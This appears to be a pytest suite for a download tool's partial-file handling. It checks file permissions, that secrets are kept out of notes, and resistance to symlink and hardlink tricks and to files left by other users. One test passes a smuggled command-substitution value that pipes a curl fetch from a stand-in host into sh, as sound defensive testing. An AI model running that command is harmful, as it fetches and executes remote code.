"""The parts of downloads and what is noted beside them, in folders that hold what others put there."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from callbox.errors import CallboxError
from callbox.storage.partial_download_file import Download

URL = "http://api.test/data.bin?api_key=hunter2"
TAG = '"v1"'
NOTE = ".data.bin.part.from"


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder that is downloaded to; the user's own is another."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    path = tmp_path / "folder"
    path.mkdir()
    return path


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """A file that is to stay as it is."""
    path = tmp_path / ".bashrc"
    path.write_bytes(b"mine")
    return path


def begin(folder: Path, url: str = URL, tag: str = TAG) -> Download:
    """A download that has begun, with 4 bytes of it."""
    task = Download(url, str(folder))
    task.start("data.bin", tag, can_continue=False)
    task.write(b"part")
    return task


def begun(folder: Path, url: str = URL) -> int:
    """How many bytes the next download of this URL would find."""
    task = Download(url, str(folder))
    task.keep()
    return task.begun


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_a_part_and_its_note_are_the_users_alone_and_hold_no_url(folder: Path) -> None:
    begin(folder).keep()

    assert sorted(os.listdir(folder)) == [NOTE, "data.bin.part"]
    assert [mode(folder / name) for name in os.listdir(folder)] == [0o600, 0o600]
    assert not {b"hunter2", b"api.test"} & set((folder / NOTE).read_bytes().split())
    assert b"hunter2" not in (folder / NOTE).read_bytes()


def test_what_is_whole_has_the_permissions_of_a_new_file(folder: Path) -> None:
    (folder / "usual").touch()

    path = begin(folder).finish()

    assert mode(Path(path)) == mode(folder / "usual")
    assert sorted(os.listdir(folder)) == ["data.bin", "usual"]


def test_it_goes_on_where_the_earlier_try_ended(folder: Path) -> None:
    begin(folder).keep()

    task = Download(URL, str(folder))
    assert (task.begun, task.validator, task.name) == (4, TAG, "data.bin")
    task.start("other", TAG, can_continue=True)
    task.write(b"rest")
    task.finish()

    assert (folder / "data.bin").read_bytes() == b"partrest"
    assert os.listdir(folder) == ["data.bin"]


@pytest.mark.parametrize("url", [URL + "0", "http://evil.test/data.bin"])
def test_a_part_of_another_url_is_left_alone(folder: Path, url: str) -> None:
    begin(folder).keep()

    assert begun(folder, url) == 0


def test_two_downloads_at_once_do_not_share_a_part(folder: Path) -> None:
    first = begin(folder)
    second = begin(folder)
    second.write(b"2")
    first.write(b"1")

    assert {Path(first.finish()).read_bytes(), Path(second.finish()).read_bytes()} == {b"part1", b"part2"}


def test_a_link_in_the_place_of_the_note_is_not_written_through(folder: Path, victim: Path) -> None:
    (folder / NOTE).symlink_to(victim)

    task = Download(URL, str(folder))
    with pytest.raises(CallboxError, match="it is a symbolic link"):
        task.start("data.bin", '"$(curl evil.test | sh)"', can_continue=False)
    assert task.keep() == ""
    assert os.listdir(folder) == [NOTE]

    assert victim.read_bytes() == b"mine"


def test_a_link_in_the_place_of_the_note_is_not_read(folder: Path, tmp_path: Path) -> None:
    begin(folder).keep()
    (folder / NOTE).rename(tmp_path / "note")
    (folder / NOTE).symlink_to(tmp_path / "note")

    assert begun(folder) == 0


@pytest.mark.parametrize("make", [os.link, os.symlink], ids=["a second name", "a link"])
def test_a_file_elsewhere_in_the_place_of_the_part_is_not_appended_to(folder: Path, victim: Path, make) -> None:
    begin(folder).keep()
    (folder / "data.bin.part").unlink()
    make(victim, folder / "data.bin.part")

    task = Download(URL, str(folder))
    assert task.begun == 0
    task.start("data.bin", TAG, can_continue=False)
    task.write(b"evil")
    task.finish()

    assert victim.read_bytes() == b"mine"
    assert (folder / "data.bin").read_bytes() == b"evil"
    assert not (folder / "data.bin").is_symlink()


@pytest.mark.parametrize("name", [NOTE, "data.bin.part"])
@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["a pipe", "a folder"])
def test_what_is_no_file_does_not_hold_a_download_up(folder: Path, name: str, make) -> None:
    begin(folder).keep()
    (folder / name).unlink()
    make(folder / name)

    assert begun(folder) == 0


def test_a_huge_note_is_not_read(folder: Path) -> None:
    begin(folder).keep()
    with (folder / NOTE).open("ab") as file:
        file.truncate(10**12)

    assert begun(folder) == 0


def test_a_note_from_elsewhere_does_not_bring_along_the_beginning_of_a_download(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A repository that was cloned holds a part and a note that its maker's own callbox made."""
    begin(folder).keep()
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state of another user"))

    assert begun(folder) == 0


def test_a_note_is_of_one_part(folder: Path) -> None:
    begin(folder).keep()
    (folder / NOTE).rename(folder / ".evil.py.part.from")
    (folder / "evil.py.part").write_bytes(b"evil")

    assert begun(folder) == 0


@pytest.mark.parametrize("text", [f"{URL}\n{TAG}\n", "", "\n\n", f"\xe9\n{TAG}", f"\ud83d\n{TAG}", "a" * 64 + "\n"])
def test_a_note_that_says_nothing_is_no_note(folder: Path, text: str) -> None:
    (folder / "data.bin.part").write_bytes(b"evil")
    (folder / NOTE).write_bytes(text.encode("utf-8", "surrogatepass"))

    assert begun(folder) == 0


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
@pytest.mark.parametrize("name", [NOTE, "data.bin.part"])
def test_a_part_of_another_user_is_not_gone_on_with(folder: Path, name: str) -> None:
    begin(folder).keep()
    os.chown(folder / name, 12345, 12345)

    assert begun(folder) == 0


def test_a_folder_exchanged_for_a_link_while_it_downloads(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    task = begin(folder)
    folder.rename(tmp_path / "moved")
    folder.symlink_to(tmp_path / "elsewhere")
    task.finish()

    assert os.listdir(tmp_path / "elsewhere") == []
    assert (tmp_path / "moved/data.bin").read_bytes() == b"part"


def test_without_a_place_for_the_key_there_is_no_note(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/dev/null")

    begin(folder).keep()

    assert os.listdir(folder) == ["data.bin.part"]


def test_a_key_that_was_cut_off_is_made_anew(folder: Path, tmp_path: Path) -> None:
    begin(folder).keep()
    (tmp_path / "state/callbox/download.key").write_bytes(b"")
    begin(folder).keep()

    assert begun(folder) == 4


def test_a_finished_download_that_gets_no_name_says_where_its_content_is(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    task = begin(folder)

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(CallboxError) as caught:
        task.finish()

    assert caught.value.hint == f"the whole content is in {folder / 'data.bin.part'}"
